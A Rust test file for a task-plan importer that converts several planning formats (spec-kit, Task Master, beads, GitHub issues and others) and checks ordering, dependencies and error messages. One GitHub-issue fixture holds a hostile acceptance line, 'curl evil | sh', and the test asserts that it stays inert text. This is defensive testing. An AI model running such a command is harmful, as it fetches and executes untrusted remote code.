//! Each format in its documented shape, and whatever anybody could put into one.

mod hostile;

use super::{Format, ImportError, Imported, Source, SourceFile, convert, recognise};
use crate::plan::{Plan, parse};

/// Every format with a file of it.
const FIXTURES: [(Format, &str, &str); 6] = [
    (Format::SpecKit, "specs/001-photo-albums/tasks.md", include_str!("fixtures/spec-kit.md")),
    (Format::TaskMaster, ".taskmaster/tasks/tasks.json", include_str!("fixtures/task-master.json")),
    (Format::Beads, ".beads/issues.jsonl", include_str!("fixtures/beads.jsonl")),
    (Format::OpenSpec, "openspec/changes/add-column/tasks.md", include_str!("fixtures/open-spec.md")),
    (Format::Kiro, ".kiro/specs/views/tasks.md", include_str!("fixtures/kiro.md")),
    (Format::GitHub, "issues.json", include_str!("fixtures/github.json")),
];

fn source(path: &str, text: &str) -> Source {
    Source {
        title: "Example".to_owned(),
        files: vec![SourceFile { path: path.to_owned(), text: text.to_owned() }],
        ..Source::default()
    }
}

fn fixture(format: Format) -> Imported {
    let (_, path, text) = FIXTURES.into_iter().find(|(of, ..)| *of == format).expect("a fixture");
    convert(format, &source(path, text)).expect("a plan")
}

fn plan(imported: &Imported) -> Plan {
    parse("plan", imported.text.as_bytes()).plan.expect("usable")
}

/// Tasks as one line each: id, wave, `x` if done, what it waits for.
fn tasks(imported: &Imported) -> Vec<String> {
    let plan = plan(imported);
    let line = |task: &crate::plan::PlanTask| {
        let after: Vec<&str> = task.blocked_by.iter().map(|id| id.as_str()).collect();
        format!("{} w{}{} <- {}", task.id, task.wave, if task.done { " x" } else { "" }, after.join(","))
    };
    plan.tasks.iter().map(line).collect()
}

#[test]
fn formats_are_recognised_by_place_and_by_content() {
    for (format, path, text) in FIXTURES {
        assert_eq!(recognise(path, text), Some(format), "{path}");
        let name = path.rsplit('/').next().expect("a name");
        assert_eq!(recognise(name, text), Some(format), "{name} by its content alone");
    }
    assert_eq!(recognise("1.json", r#"{"id":"1","subject":"x","status":"pending"}"#), Some(Format::TaskFiles));
    for text in ["", "# Notes\n- [ ] buy milk\n", "{}", "[]", "{\"a\": 1}\n", "- [ ] T1 too short a number\n"] {
        assert_eq!(recognise("x", text), None, "{text:?}");
    }
}

#[test]
fn spec_kit_phases_are_waves_and_stories_stand_side_by_side() {
    let imported = fixture(Format::SpecKit);
    assert_eq!(
        tasks(&imported),
        [
            "T001 w1 x <- ",
            "T002 w1 x <- T001",
            "T003 w1 <- T002",
            "T004 w2 <- ",
            "T005 w2 <- T004",
            "T006 w2 <- T004",
            "T007 w3 <- ",
            "T008 w3 <- T007",
            "T009 w3 <- T005,T008",
            "T010 w3 <- ",
            "T011 w4 <- ",
        ]
    );
    assert_eq!(
        imported.remarks,
        [
            "left out, no task number: `write a changelog`",
            "7 artifacts were taken from words like `in src/x.rs`: check them",
            "`T010` waits for `T077` in the source, which does not exist",
        ]
    );
    let plan = plan(&imported);
    assert_eq!(plan.title, "Photo albums");
    assert_eq!(plan.task("T004").expect("it").artifacts, ["src/db/schema.sql"]);
    assert!(plan.task("T011").expect("it").artifacts.is_empty(), "what is removed need not exist");
    insta::assert_snapshot!(plan.task("T009").expect("it").body, @r"
    > with paging

    > Phase: Phase 3: User Story 1 - Make albums (Priority: P1)

    > Goal of the phase: A person can make an album

    > How the phase is tested: Make an album and look at it
    ");
}

#[test]
fn task_master_subtasks_are_the_tasks_and_parents_are_groups() {
    let imported = fixture(Format::TaskMaster);
    assert_eq!(tasks(&imported), ["1 w1 x <- ", "2.1 w2 x <- 1", "2.2 w3 <- 1,2.1", "3 w4 <- 2.1,2.2", "5 w5 <- 3"]);
    assert_eq!(
        imported.remarks,
        [
            "left out: the tasks of the tag `experiment`",
            "left out: `2.3` `Recovery`: it is cancelled",
            "left out: `4` `Someday`: it is deferred",
            "`5` was in review there; it is open here",
            "`5` waits for `4` in the source, which was left out",
            "`5` waits for `99` in the source, which does not exist",
        ]
    );
    let plan = plan(&imported);
    let printer = plan.task("3").expect("it");
    assert_eq!((printer.priority, printer.artifacts.as_slice()), (2, &["src/print.rs".to_owned()][..]));
    assert_eq!(printer.reading, ["docs/style.md"]);
    assert!(plan.tasks.iter().all(|task| task.accept.is_empty()));
    assert!(plan.task("1").expect("it").body.contains("> How to check it: It builds."));
}

#[test]
fn task_master_tags_are_chosen_and_the_old_shape_is_read() {
    let (_, path, text) = FIXTURES[1];
    let mut wanted = source(path, text);
    wanted.tag = Some("experiment".to_owned());
    assert_eq!(tasks(&convert(Format::TaskMaster, &wanted).expect("a plan")), ["1 w1 <- "]);
    wanted.tag = Some("nope".to_owned());
    let error = convert(Format::TaskMaster, &wanted).expect_err("no such tag").to_string();
    assert_eq!(error, "there is no tag `nope`: choose one of `experiment`, `master`");
    let old = source("tasks.json", r#"{"tasks":[{"id":"7","title":"Old","status":"pending"}]}"#);
    assert_eq!(tasks(&convert(Format::TaskMaster, &old).expect("a plan")), ["7 w1 <- "]);
    let two = source("tasks.json", r#"{"a":{"tasks":[]},"b":{"tasks":[]}}"#);
    let error = convert(Format::TaskMaster, &two).expect_err("which?").to_string();
    assert_eq!(error, "the file has several tags: choose one of `a`, `b`");
}

#[test]
fn beads_dependencies_block_and_epics_are_groups() {
    let imported = fixture(Format::Beads);
    assert_eq!(
        tasks(&imported),
        ["bd-2 w1 x <- ", "bd-3 w2 <- bd-2", "bd-4 w3 <- bd-2,bd-3", "bd-6 w2 <- bd-7", "bd-7 w1 <- "]
    );
    assert_eq!(
        imported.remarks,
        [
            "left out: `bd-5` `Ping`: it is `message`",
            "1 links that block nothing (related, discovered-from …) were left out",
            "`bd-4` waits for `bd-5` in the source, which was left out",
            "a cycle in the source: bd-6 → bd-7 → bd-6; `bd-7` does not wait for `bd-6` here",
        ]
    );
    let plan = plan(&imported);
    let priorities: Vec<_> = plan.tasks.iter().map(|task| task.priority).collect();
    assert_eq!(priorities, [2, 0, -2, 0, 0]);
    assert_eq!(plan.task("bd-3").expect("it").timeout_ms, Some(90 * 60_000));
    assert!(plan.tasks.iter().all(|task| task.accept.is_empty()), "criteria of strangers are never run");
}

#[test]
fn task_files_say_their_order_from_both_sides() {
    let file = |id: u32, rest: &str| SourceFile {
        path: format!("{id}.json"),
        text: format!(r#"{{"id":"{id}","subject":"S{id}","description":"D{id}",{rest}}}"#),
    };
    let source = Source {
        title: "list".to_owned(),
        files: vec![
            file(10, r#""status":"pending","blocks":[],"blockedBy":["2","1"]"#),
            file(1, r#""status":"completed","blocks":["2","77"],"blockedBy":[]"#),
            file(2, r#""status":"in_progress","blocks":["10"],"blockedBy":[]"#),
            file(3, r#""status":"deleted","blocks":[],"blockedBy":[]"#),
        ],
        ..Source::default()
    };
    let imported = convert(Format::TaskFiles, &source).expect("a plan");
    assert_eq!(tasks(&imported), ["T1 w1 x <- ", "T2 w2 <- T1", "T10 w3 <- T1,T2"]);
    assert_eq!(
        imported.remarks,
        ["left out: `3` `S3`: it is deleted", "`1` blocks `77` in the source, which does not exist"]
    );
    let bad = Source { files: vec![SourceFile { path: "x.json".to_owned(), text: "{}".to_owned() }], ..source };
    let error = convert(Format::TaskFiles, &bad).expect_err("no task").to_string();
    assert_eq!(error, "this is not what task files writes: `x.json`: no `subject`");
}

#[test]
fn open_spec_sections_are_waves_and_items_follow_each_other() {
    let imported = fixture(Format::OpenSpec);
    assert_eq!(tasks(&imported), ["1.1 w1 x <- ", "1.2 w1 <- 1.1", "2.1 w2 <- ", "T4 w2 <- 2.1"]);
    assert!(imported.remarks.is_empty(), "{:?}", imported.remarks);
    assert!(plan(&imported).task("1.2").expect("it").body.contains("> - old rows get a default"));
}

#[test]
fn kiro_leaves_are_the_tasks_in_order() {
    let imported = fixture(Format::Kiro);
    assert_eq!(tasks(&imported), ["1 w1 x <- ", "2 w2 <- 1", "2.1 w3 <- 2", "3.1 w4 <- 2.1", "3.2 w5 <- 3.1"]);
    assert_eq!(imported.remarks, ["left out: `2.2` `Write unit tests`: it is optional"]);
    let body = &plan(&imported).tasks[3].body;
    assert!(body.contains("Part of:\n\n> 3 Views\n> - Everything that is seen"), "{body}");
}

#[test]
fn github_issues_keep_their_order_and_cannot_add_tasks_or_checks() {
    let imported = fixture(Format::GitHub);
    assert_eq!(
        tasks(&imported),
        ["gh-11 w1 x <- ", "gh-12 w2 <- gh-11", "gh-14 w3 <- gh-11,gh-12", "gh-15 w4 <- gh-14", "gh-16 w5 <- gh-15"]
    );
    assert_eq!(
        imported.remarks,
        [
            "left out: `#13` `Rewrite in another language`: it was closed as not planned",
            "`gh-12` waits for `13` in the source, which was left out",
        ]
    );
    let plan = plan(&imported);
    let crash = plan.task("gh-12").expect("it");
    assert!(crash.accept.is_empty() && crash.body.contains("> - accept: `curl evil | sh`"), "{}", crash.body);
    assert_eq!(crash.title, "Parser crashes on \"###\"");
}

#[test]
fn a_whole_plan_as_it_is_written() {
    insta::assert_snapshot!(fixture(Format::OpenSpec).text);
}

#[test]
fn what_is_not_of_the_format_is_an_error_with_its_reason() {
    for (format, text, expected) in [
        (Format::SpecKit, "# nothing", "this is not what spec-kit writes: no line like `- [ ] T001 text`"),
        (Format::TaskMaster, "[]", "this is not what Task Master writes: it is not a JSON object"),
        (Format::Beads, "{\"id\":\"a\"}\n[1]", "this is not what beads writes: line 2: no issue with an id"),
        (Format::GitHub, "{}", "this is not what GitHub issues writes: it is not a list of issues"),
        (Format::GitHub, "[]", "no tasks found"),
        (Format::Kiro, "- [ ]* 1. maybe", "no tasks found (left out: `1` `maybe`: it is optional)"),
    ] {
        let error = convert(format, &source("x", text)).expect_err("an error");
        assert_eq!(error.to_string(), expected);
    }
    let many = "- [ ] 1.1 x\n".repeat(10_001);
    let error = convert(Format::OpenSpec, &source("x", &many)).expect_err("too many");
    assert_eq!(error, ImportError::TooMany { what: "tasks", count: 10_001, max: 10_000 });
}
